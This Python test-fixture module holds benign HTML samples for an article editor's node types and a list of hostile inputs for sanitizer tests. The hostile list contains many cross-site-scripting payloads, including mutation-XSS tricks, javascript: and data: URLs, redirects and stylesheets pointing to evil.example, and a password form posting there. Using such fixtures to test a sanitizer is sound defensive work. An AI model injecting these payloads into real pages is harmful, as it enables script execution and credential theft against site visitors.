"""Bodies for tests: one example of everything that may be stored, and HTML of people who mean harm."""

EXAMPLES = {
    "paragraph": "<p>Text, with “quotes” &amp; signs: 5 &lt; 6</p>",
    "heading": "<h2>What happened</h2><h3>At sea</h3>",
    "bulletList": "<ul><li><p>a</p></li><li><p>b</p><p>more</p></li></ul>",
    "orderedList": "<ol><li><p>a</p><ul><li><p>deep</p></li></ul></li></ol>",
    "listItem": "<ul><li><p>a</p></li></ul>",
    "blockquote": "<blockquote><p>Said</p><ul><li><p>point</p></li></ul></blockquote>",
    "cite": "<blockquote><p>Said</p><cite>Ann Other</cite></blockquote>",
    "pullquote": '<aside class="pullquote"><p>Loud</p><cite>Ann Other</cite></aside>',
    "figure": '<figure data-picture="7"></figure><figure data-picture="8" data-alt="" data-size="wide"></figure>'
    '<figure data-picture="9" data-size="full"></figure>',
    "factbox": '<aside class="factbox"><h3>At a glance</h3><p>a</p><ul><li><p>b</p></li></ul></aside>',
    "boxTitle": '<aside class="factbox"><h3>At a glance</h3><p>a</p></aside><aside class="factbox"><p>a</p></aside>',
    "codeBlock": "<pre><code>if a &lt; b:\n    print(a)\n\n    stop()</code></pre>",
    "gallery": '<section class="gallery"><figure data-picture="7" data-alt="A"><figcaption>One</figcaption></figure>'
    '<figure data-picture="8"><figcaption></figcaption></figure></section>',
    "footnote": '<p>a<sup data-note="The source: https://example.org/a"></sup>, <strong>b</strong></p>',
    "figcaption": '<figure data-picture="7" data-alt="A ship"><figcaption>A <em>ship</em></figcaption></figure>',
    "card": '<div data-card="https://example.org/a?b=1&amp;c=2" data-title="A title" data-site="Site"></div>',
    "storyCard": '<div data-story="12"></div>',
    "table": "<table><caption>Ships</caption><thead><tr><th><p>Year</p></th></tr></thead>"
    "<tbody><tr><td><p>2026</p></td></tr></tbody></table>",
    "tableRow": "<table><tbody><tr><td><p>1</p></td><td><p></p></td></tr></tbody></table>",
    "tableHeader": "<table><tbody><tr><th><p>1</p></th><td><p>2</p></td></tr></tbody></table>",
    "tableCell": "<table><tbody><tr><td><p>1</p><p>2</p></td><td><p>3</p></td></tr></tbody></table>",
    "horizontalRule": "<p>a</p><hr><p>b</p>",
    "hardBreak": "<p>a<br>b</p>",
    "text": "<p>a</p>",
    "link": '<p><a href="https://example.org/">a</a> <a href="mailto:a@example.org">b</a> <a href="/about/">c</a></p>',
    "bold": "<p><strong>a</strong></p>",
    "code": "<p>a <code>b</code> <strong><em>c<code>d</code></em></strong></p>",
    "italic": "<p><em>a</em> <strong>b<em>c</em></strong></p>",
}

HOSTILE = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>
<a href="javascript:alert(1)">x</a>
<a href=" &#106;avascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java\x00script:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)//https://example.org">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//example.org\\@evil.example/">x</a>
<a href="/\\evil.example">x</a>
<a href="https://good.example@evil.example/">x</a>
<a href="https://example.org/" target="_blank" rel="opener" ping="https://evil.example" style="position:fixed">x</a>
<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">x</a>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><a title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src="javascript:alert(1)">
<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=x">
<style>@import "https://evil.example/x.css"; body{display:none}</style>
<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)><body onload=alert(1)>
<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><?php echo 1 ?>
<<script>alert(1)//<</script>
<p title="<script>alert(1)</script>">x</p><p title='"><img src=x onerror=alert(1)>'>y</p>
<p/onclick=alert(1)>x</p><p\x0conclick=alert(1)>x</p><p onclick\x0c=alert(1)>x</p>
<figure data-picture="1 onerror=alert(1)"><figcaption>x</figcaption></figure>
<figure data-picture='1"><script>alert(1)</script>'>x</figure>
<figure data-picture="1" data-alt='"><script>alert(1)</script>' onmouseover=alert(1)></figure>
<figure data-picture="-1">x</figure><figure data-picture="१">x</figure><figure data-picture="99999999999999999999999">x</figure>
<div data-card="javascript:alert(1)" data-title="x">x</div>
<div data-story="1 onclick=alert(1)">x</div><div data-story='1"><script>alert(1)</script>'></div><div data-story="-1">x</div>
<div data-card="https://youtu.be/abcdefghijk&quot;onload=&quot;alert(1)" data-title="x" data-frame="https://evil.example/"></div>
<div data-card="https://youtube.com.evil.example/watch?v=abcdefghijk" data-title="x"></div><div class="story-place" data-story="1">x</div>
<div data-card="https://example.org/" data-title='"><script>alert(1)</script>' data-site="<img src=x onerror=alert(1)>"></div>
<aside class="pullquote evil" id="x" style="position:fixed">x</aside><aside class="evil">x</aside>
<aside class="factbox evil" id="x" onclick="alert(1)"><h3 onclick="alert(1)"><script>alert(1)</script>x</h3>y</aside>
<aside class="factbox"><h3><img src=x onerror=alert(1)>x</h3><img src=x onerror=alert(1)>y</aside>
<sup data-note='"><script>alert(1)</script>'>1</sup><sup data-note="javascript:alert(1) https://evil.example/&quot;onclick=alert(1)">x</sup>
<p>x<sup data-note="<img src=x onerror=alert(1)>" onclick="alert(1)" id="footnote-1"></sup></p>
<pre onclick="alert(1)"><code class="evil"><script>alert(1)</script><img src=x onerror=alert(1)>&lt;script&gt;</code></pre>
<section class="gallery evil" onclick="alert(1)"><figure data-picture="1"></figure><figure data-picture='2'></figure>x</section>
<section class="gallery"><figure data-picture="1" data-size="wide onclick=alert(1)"></figure><script>alert(1)</script></section>
<figure data-picture="1" data-size="position:fixed"></figure><code onclick="alert(1)" style="position:fixed">x</code>
<table background="javascript:alert(1)"><tr><td colspan="9999999999" rowspan="99999999">x</td></tr></table>
<blockquote cite="javascript:alert(1)">x</blockquote><q cite="javascript:alert(1)">x</q>
<ul><li onclick=alert(1) value="javascript:1">x</ul>
<custom-element onclick=alert(1)>x</custom-element><x:y xmlns:x="http://www.w3.org/1999/xhtml">x</x:y>
<select><option><script>alert(1)</script></option></select><keygen autofocus onfocus=alert(1)>
<table><tr><td><a href="javascript:alert(1)"><b><i></td></tr></b>x</table></a>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<plaintext><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
\ud800<p>half a character</p>\ufffe\u202e
""".strip().split("\n")
